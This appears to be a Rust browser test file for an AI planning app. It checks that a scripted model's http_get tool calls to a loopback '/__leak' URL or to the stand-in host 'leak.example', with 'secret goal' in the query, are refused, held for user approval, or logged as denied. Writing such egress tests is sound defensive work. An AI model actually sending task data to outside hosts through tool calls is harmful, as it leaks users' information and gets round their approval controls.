//! Tool calls and where they may go, against the local test server: a model that asks `http_get`
//! of the server's loopback `/__leak` URL gets nothing sent until the user pre-approves the host;
//! a request to an unknown public host waits in the prompt panel and a denial sends nothing.

use crate::call_log::CallLog;
use planwright::llm::settings::ProviderSettings;
use wasm_bindgen_test::wasm_bindgen_test;

use crate::dom::*;
use crate::test_server::{encoded, openai_settings, server};

/// Settings whose model asks `http_get` of `url` once, then answers with the tool's result.
fn fetching(url: &str, tool_hosts: &str) -> ProviderSettings {
    ProviderSettings {
        stream: false,
        tool_hosts: tool_hosts.into(),
        ..openai_settings(&format!("fetch-{}", encoded(url)), "sk-egress")
    }
}

async fn leaks() -> u64 {
    let window = web_sys::window().unwrap();
    let response =
        wasm_bindgen_futures::JsFuture::from(window.fetch_with_str(&format!("{}/__leaks", server()))).await.unwrap();
    let response: web_sys::Response = wasm_bindgen::JsCast::unchecked_into(response);
    let text = wasm_bindgen_futures::JsFuture::from(response.text().unwrap()).await.unwrap();
    let value: serde_json::Value = serde_json::from_str(&text.as_string().unwrap()).unwrap();
    value["count"].as_u64().unwrap()
}

/// Runs a one-task research plan with `settings` and waits for the run to end; returns the app.
async fn run_research(db: &str, settings: ProviderSettings) -> Mounted {
    let app = mount_app(db, CallLog::default(), settings);
    import(&app.root, r#"{"tasks":[{"id":"T1","name":"Look it up","type":"research","depends_on":[]}]}"#, 1).await;
    click(&app.root, "run-button");
    wait_until("the run to start", 5_000.0, || {
        find(&app.root, "[data-testid='confirm-run']").is_some() || text_of(&app.root, "run-status") != "idle"
    })
    .await;
    if find(&app.root, "[data-testid='confirm-run']").is_some() {
        click(&app.root, "confirm-run");
    }
    app
}

#[wasm_bindgen_test]
async fn loopback_is_refused_until_the_user_adds_the_host() {
    let leak = format!("{}/__leak?d=secret%20goal", server());
    let before = leaks().await;
    let app = run_research(&unique_db("egress-refused"), fetching(&leak, "")).await;
    wait_until("the run to finish", 20_000.0, || text_of(&app.root, "run-status") == "finished").await;
    assert_eq!(leaks().await, before, "nothing reached the loopback server");
    assert!(find(&app.root, "[data-testid='egress-prompt']").is_none(), "loopback is refused, not asked about");
    select_task(&app.root, "T1").await;
    wait_until("the tool-call log", 5_000.0, || find_all(&app.root, "[data-testid='tool-call-row']").len() == 1).await;
    assert_eq!(text_of(&app.root, "tool-call-access"), "refused");
    assert!(text_of(&app.root, "tool-calls").contains(&leak));
    drop(app);

    let host = server().trim_start_matches("http://").split(':').next().unwrap().to_string();
    let app = run_research(&unique_db("egress-listed"), fetching(&leak, &host)).await;
    wait_until("the run to finish", 20_000.0, || text_of(&app.root, "run-status") == "finished").await;
    assert_eq!(leaks().await, before + 1, "one request once the host is pre-approved");
    select_task(&app.root, "T1").await;
    wait_until("the tool-call log", 5_000.0, || text_of(&app.root, "tool-call-access") == "allowed").await;
}

#[wasm_bindgen_test]
async fn an_unknown_host_waits_for_the_user_and_a_denial_sends_nothing() {
    let url = "https://leak.example/?d=secret%20goal";
    let app = run_research(&unique_db("egress-ask"), fetching(url, "")).await;
    wait_until("the prompt", 10_000.0, || find(&app.root, "[data-testid='egress-prompt']").is_some()).await;
    assert_eq!(text_of(&app.root, "egress-url"), url);
    assert_eq!(text_of(&app.root, "egress-tool"), "http_get");
    assert_eq!(text_of(&app.root, "egress-method"), "GET");
    assert!(text_of(&app.root, "egress-prompt").contains("Task T1"));
    assert_eq!(text_of(&app.root, "run-status"), "running", "the task waits for the answer");
    click(&app.root, "egress-deny");
    wait_until("the run to finish", 20_000.0, || text_of(&app.root, "run-status") == "finished").await;
    assert!(find(&app.root, "[data-testid='egress-prompt']").is_none());
    select_task(&app.root, "T1").await;
    wait_until("the tool-call log", 5_000.0, || text_of(&app.root, "tool-call-access") == "denied").await;
}

#[wasm_bindgen_test]
async fn cancelling_the_run_takes_its_question_off_the_page_and_sends_nothing() {
    let url = "https://leak.example/?d=cancelled";
    let app = run_research(&unique_db("egress-cancel"), fetching(url, "")).await;
    wait_until("the prompt", 10_000.0, || find(&app.root, "[data-testid='egress-prompt']").is_some()).await;
    click(&app.root, "cancel-button");
    wait_until("the run to be cancelled", 10_000.0, || text_of(&app.root, "run-status") == "cancelled").await;
    wait_until("the question to go", 2_000.0, || find(&app.root, "[data-testid='egress-prompt']").is_none()).await;
    select_task(&app.root, "T1").await;
    wait_until("the tool-call log", 5_000.0, || text_of(&app.root, "tool-call-access") == "denied").await;
}
